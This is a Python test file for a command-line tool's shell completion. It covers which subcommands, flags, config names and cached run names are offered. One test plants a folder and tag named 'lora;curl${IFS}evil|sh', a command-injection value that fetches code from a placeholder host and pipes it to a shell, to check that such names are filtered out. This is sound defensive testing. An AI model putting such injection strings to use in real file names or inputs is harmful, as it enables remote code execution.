"""What a shell is offered, from words and files alone; and the file of names, whatever lies in it."""

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kctl.backends.cluster.backend import Cluster
from kctl.complete import WORDS, candidates
from kctl.run import names

BIG, SMALL = "in namespace research of context big", "in namespace team of this cluster"
TREE = json.loads(WORDS.read_bytes())


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty cache, and a folder without configs of one's own."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("KCTL_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("KCTL_CONFIGS", raising=False)
    monkeypatch.delenv("KCTL_LOCAL", raising=False)
    return tmp_path / "cache" / "names.json"


def offered(*words: str) -> list[str]:
    return [value for value, _ in candidates(TREE, list(words))]


@pytest.mark.parametrize(
    ("words", "values"),
    [
        (["sub"], ["submit"]),
        (["--debug", "st"], ["status"]),
        (["status", "--out"], ["--output"]),
        (["status", "-o", "j"], ["json"]),
        (["status", "--output=j"], ["--output=json"]),
        (["status", "--output", "=", "j"], ["json"]),
        (["status", "--output", "="], ["table", "json", "yaml", "name"]),
        (["submit", "lora_di3", "--dry-run", ""], ["client", "server"]),
        (["completion", ""], ["bash", "zsh", "fish"]),
        (["submit", "full"], ["full_di3"]),
        (["submit", "full_di3", "lo"], []),
        (["validate", "full_di3", "lora_di3_f"], ["lora_di3_fast"]),
        (["submit", "--set", "train.lora.ra"], ["train.lora.rank="]),
        (["submit", "--set", "train.lora.rank", "=", "3"], []),
        (["submit", "--matrix", "cluster.no"], ["cluster.nodes="]),
        (["generate", "x", "--out", ""], []),
        (["data", "sa"], ["sample"]),
        (["data", "stats", "train.json", "--config", "full"], ["full_di3"]),
        (["push", "train.json", "--to", ""], ["models", "data"]),
        (["gitops", "render", "full_di3", "--update", ""], ["@latest"]),
        (["status", "--watch", "--wat"], []),
        (["submit", "--set", "a=1", "--se"], ["--set"]),
        (["no-such-verb", "x"], []),
    ],
)
def test_offered(words: list[str], values: list[str]) -> None:
    assert offered(*words) == values


def test_names_of_runs_by_place_newest_first() -> None:
    assert offered("status", "") == ["@latest"]
    names.remember(SMALL, ["old-00000001", "new-00000002"])
    names.remember(BIG, ["big-00000003"])
    assert offered("status", "") == ["big-00000003", "new-00000002", "old-00000001", "@latest"]
    assert offered("status", "-n", "team", "") == ["new-00000002", "old-00000001", "@latest"]
    assert offered("status", "o", "--context", "big")[:1] == ["big"] and offered("logs", "-f", "o") == ["old-00000001"]
    assert offered("pull", "-n", "") == ["research", "team"] and offered("top", "big-00000003", "b") == []
    names.remember_one(SMALL, "made-00000004")
    names.forget(SMALL, "old-00000001")
    names.remember_one(SMALL, "made-00000004")
    assert offered("status", "")[:2] == ["made-00000004", "new-00000002"]
    names.remember(SMALL, ["@production", "new-00000002"])
    assert offered("pull", "-n", "team", "") == ["new-00000002", "@production", "@latest"]
    names.forget(SMALL, "@production")
    assert offered("pull", "@p") == []


@pytest.mark.parametrize("context", ["big", "arn:aws:eks:eu-west-1:1:cluster/big", "me@the big one"])
def test_a_place_is_what_a_cluster_calls_itself(context: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    server = {"name": "s", "cluster": {"server": "https://127.0.0.1:1"}}
    user = {"name": "u", "user": {"token": "t"}}
    called = {"name": context, "context": {"cluster": "s", "user": "u", "namespace": "team"}}
    file = {"apiVersion": "v1", "kind": "Config", "clusters": [server], "users": [user], "contexts": [called]}
    (tmp_path / "kubeconfig").write_text(json.dumps({**file, "current-context": context}))
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
    names.remember(Cluster(None, None).where, ["one-00000001"])
    names.remember(Cluster("other", context).where, ["two-00000002"])
    assert names.places() == [("other", context), ("team", context)]
    assert offered("status", "-n", "team", "--context", context, "") == ["one-00000001", "@latest"]


def test_names_of_local_runs_are_their_folders(tmp_path: Path, cache: Path) -> None:
    for name in ("demo-00000001", ".new-1"):
        (tmp_path / ".kctl" / "jobs" / name).mkdir(parents=True)
    names.remember("locally", ["demo-00000001"])
    assert offered("status", "--local", "") == ["demo-00000001", "@latest"] and not cache.exists()
    job = {"metadata": {"annotations": {"tag.kctl.dev/best": "now", "other": "x"}}}
    (tmp_path / ".kctl" / "jobs" / "demo-00000001" / "job.json").write_text(json.dumps(job))
    assert offered("pull", "--local", "@") == ["@best", "@latest"]
    bad = "lora;curl${IFS}evil|sh"  # a shell would run it
    (tmp_path / ".kctl" / "jobs" / bad).mkdir()
    job["metadata"]["annotations"][f"tag.kctl.dev/{bad}"] = "now"
    (tmp_path / ".kctl" / "jobs" / "demo-00000001" / "job.json").write_text(json.dumps(job))
    assert offered("status", "--local", "") == ["demo-00000001", "@best", "@latest"]
    (tmp_path / "configs").mkdir()
    for name in ("my_run.yaml", "a $(b).yaml", "a\nb.yaml"):
        (tmp_path / "configs" / name).touch()
    assert offered("submit", "")[0] == "my_run"


def test_a_cache_that_cannot_be_written_or_read_is_nobodys_trouble(
    cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for content in ('{"x": 1}', "[]", "\x00", json.dumps({BIG: ["ok-1", "a b", "$(x)", 7, "-x"], SMALL: 3})):
        cache.parent.mkdir(exist_ok=True)
        cache.write_text(content)
        assert offered("status", "") in (["@latest"], ["ok-1", "@latest"])
    monkeypatch.setenv("KCTL_CACHE", "/proc/nowhere")
    names.remember(BIG, ["one-00000001"])
    assert names.read() == {}


def test_the_cache_stays_small(cache: Path) -> None:
    for number in range(names.MOST_PLACES + 5):
        names.remember(f"in namespace n{number} of context c", [f"r-{one}" for one in range(names.MOST_NAMES + 5)])
    kept = names.read()
    assert len(kept) == names.MOST_PLACES and "in namespace n24 of context c" in kept
    assert {len(one) for one in kept.values()} == {names.MOST_NAMES} and cache.stat().st_size < 400_000
    assert [path.name for path in cache.parent.iterdir()] == ["names.json"]


WORD = st.sampled_from(["", "status", "submit", "--set", "-n", "=", "--output=", "-", "x", "@latest"]) | st.text(
    max_size=5
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=50)
@given(st.lists(WORD, min_size=1, max_size=6))
def test_whatever_is_typed_what_is_offered_continues_it(words: list[str]) -> None:
    for value in offered(*words):
        assert value.startswith(words[-1]) or words[-1] == "="
